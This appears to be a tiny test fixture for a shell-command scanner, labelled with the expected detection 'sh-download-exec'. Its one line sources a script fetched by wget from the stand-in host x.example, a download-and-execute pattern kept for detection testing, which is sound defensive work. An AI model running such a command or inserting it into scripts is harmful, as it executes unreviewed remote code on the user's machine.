# expect: sh-download-exec
source <(wget -qO- http://x.example/env.sh)
